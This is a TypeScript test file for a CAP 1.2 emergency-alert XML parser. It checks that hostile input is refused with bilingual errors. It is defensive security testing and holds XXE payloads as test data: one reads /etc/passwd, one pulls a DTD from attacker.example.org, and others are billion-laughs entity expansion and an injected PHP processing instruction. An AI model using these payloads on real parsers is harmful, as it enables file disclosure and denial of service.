import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { describe, expect, it } from 'vitest'
import { CapError, type CapErrorCode } from './cap-error'
import { parseCapAlert } from './parse-cap'

const FIXTURES = fileURLToPath(new URL('../../../test/fixtures/cap/', import.meta.url))
const fixture = (name: string): Buffer => readFileSync(`${FIXTURES}${name}`)
const RED = fixture('valid/zhengzhou-rainstorm-red.xml').toString('utf8')

function refusal(input: string | Buffer, code: CapErrorCode, maxBytes?: number): CapError {
  let caught: unknown
  try {
    parseCapAlert(input, { maxBytes })
  } catch (error) {
    caught = error
  }
  if (!(caught instanceof CapError))
    throw new Error(`expected CapError(${code}), got ${String(caught)}`)
  expect(caught.code).toBe(code)
  // Every refusal speaks both languages: "中文 / English".
  expect(caught.message).toMatch(/[\u4e00-\u9fff].* \/ [A-Za-z]/)
  return caught
}

describe('hostile XML is refused before parsing', () => {
  it('refuses XXE to file:///etc/passwd and never echoes the file', () => {
    const error = refusal(fixture('hostile/xxe-file.xml'), 'HOSTILE')
    expect(error.message).toContain('DOCTYPE')
    const passwd = readFileSync('/etc/passwd', 'utf8')
      .split('\n')
      .filter((l) => l.length > 4)
    const everything = JSON.stringify({
      message: error.message,
      path: error.path,
      stack: error.stack,
    })
    for (const line of passwd) expect(everything).not.toContain(line)
    expect(everything).not.toContain('root:')
  })

  it('refuses parameter-entity XXE, billion laughs and external DTDs as HOSTILE', () => {
    const paramXxe = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example.org/x.dtd"> %p;]><a/>`
    refusal(paramXxe, 'HOSTILE')
    const started = Date.now()
    refusal(fixture('hostile/billion-laughs.xml'), 'HOSTILE')
    expect(Date.now() - started).toBeLessThan(1000)
    refusal(fixture('hostile/external-dtd.xml'), 'HOSTILE')
  })

  it('refuses any DOCTYPE or ENTITY declaration, whatever its case or place', () => {
    refusal(RED.replace('<alert', '<!doctype alert>\n<alert'), 'HOSTILE')
    refusal(RED.replace('<scope>', '<!ENTITY x "y"><scope>'), 'HOSTILE')
    refusal(RED.replace('<scope>', '<!-- <!DOCTYPE x> --><scope>'), 'HOSTILE')
  })

  it('refuses processing instructions other than the XML declaration', () => {
    const error = refusal(fixture('hostile/processing-instruction.xml'), 'HOSTILE')
    expect(error.message).toContain('xml-stylesheet')
    refusal(`${RED}<?php echo 1 ?>`, 'HOSTILE')
    refusal(
      RED.replace('<?xml version="1.0" encoding="UTF-8"?>', '<?xml-model href="x"?>'),
      'HOSTILE',
    )
  })

  it('refuses an undeclared entity reference (no DTD may declare one) as MALFORMED', () => {
    refusal(RED.replace('<source>郑州市气象台', '<source>&lol9;'), 'MALFORMED')
    refusal(RED.replace('<source>郑州市气象台', '<source>A & B'), 'MALFORMED')
    refusal(RED.replace('<source>郑州市气象台', '<source>&#0;'), 'MALFORMED')
  })
})

describe('size limit', () => {
  it('refuses documents over 1 MiB by default and over a custom limit', () => {
    const big = RED.replace('</alert>', `<note>${'x'.repeat(1024 * 1024)}</note></alert>`)
    expect(refusal(big, 'TOO_LARGE').message).toContain('1048576')
    refusal(Buffer.from(RED, 'utf8'), 'TOO_LARGE', 1000)
  })

  it('stays linear on pathological whitespace inside a polygon', () => {
    const spaces = ' '.repeat(400_000)
    const doc = RED.replace(
      /<polygon>[^<]*<\/polygon>/,
      `<polygon>34.8,${spaces},113.6${spaces}x</polygon>`,
    )
    const started = Date.now()
    expect(parseCapAlert(doc).warnings.length).toBeGreaterThan(0)
    expect(Date.now() - started).toBeLessThan(2000)
  })

  it('counts UTF-8 bytes, not characters', () => {
    const chinese = RED.replace('</alert>', `<note>${'雨'.repeat(400_000)}</note></alert>`)
    expect(chinese.length).toBeLessThan(1024 * 1024)
    refusal(chinese, 'TOO_LARGE')
  })
})

describe('malformed documents', () => {
  it.each([
    ['unbalanced tags', fixture('hostile/malformed.xml')],
    ['a truncated document', RED.slice(0, RED.length / 2)],
    ['two root elements', `${RED}<alert/>`],
    ['text after the root', `${RED}trailing`],
    [
      'an undeclared namespace prefix',
      RED.replace('<scope>Public</scope>', '<x:scope>Public</x:scope>'),
    ],
    [
      'invalid UTF-8 bytes',
      Buffer.concat([Buffer.from(RED.slice(0, 100)), Buffer.from([0xff, 0xfe, 0xfd])]),
    ],
    [
      'a UTF-16 byte-order mark',
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(RED, 'utf16le')]),
    ],
    ['an unsupported declared encoding', Buffer.from(RED.replace('UTF-8', 'ISO-8859-1'), 'latin1')],
    ['XML 1.1', RED.replace('version="1.0"', 'version="1.1"')],
    [
      'nesting deeper than CAP ever needs',
      RED.replace('<scope>', `${'<x>'.repeat(40)}${'</x>'.repeat(40)}<scope>`),
    ],
    ['an empty document', ''],
  ])('refuses %s', (_name, input) => {
    refusal(input, 'MALFORMED')
  })
})

describe('not CAP 1.2', () => {
  it('refuses CAP 1.1 with a message naming both namespaces', () => {
    const error = refusal(fixture('hostile/cap-1.1.xml'), 'INVALID')
    expect(error.message).toContain('urn:oasis:names:tc:emergency:cap:1.2')
    expect(error.message).toContain('cap:1.1')
    expect(error.message).toContain('older CAP version')
  })

  it('refuses an alert without namespace and a foreign root', () => {
    refusal(RED.replace(' xmlns="urn:oasis:names:tc:emergency:cap:1.2"', ''), 'INVALID')
    refusal('<rss version="2.0"><channel/></rss>', 'INVALID')
  })
})
